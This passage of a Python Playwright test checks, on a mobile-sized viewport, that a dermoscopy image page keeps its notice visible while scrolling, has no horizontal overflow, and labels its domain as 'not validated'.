    ready.emulate_media(color_scheme=scheme)
    ready.set_viewport_size({"width": 360, "height": 740})
    judged(ready, png(golden.load(FLAGSHIP / "golden.npz").sources[2], tmp_path / "image.png"))
    for place in ("0", "document.body.scrollHeight / 2", "document.body.scrollHeight"):
        ready.evaluate(f"() => window.scrollTo(0, {place})")
        box = ready.locator(".notice").bounding_box()
        assert box is not None and 0 <= box["y"] < 740 and ready.inner_text(".notice") == NOTICE
    assert ready.evaluate("() => document.documentElement.scrollWidth") <= 360
    assert "dermoscop" in ready.inner_text("#domain") and "not validated" in ready.inner_text("#domain")
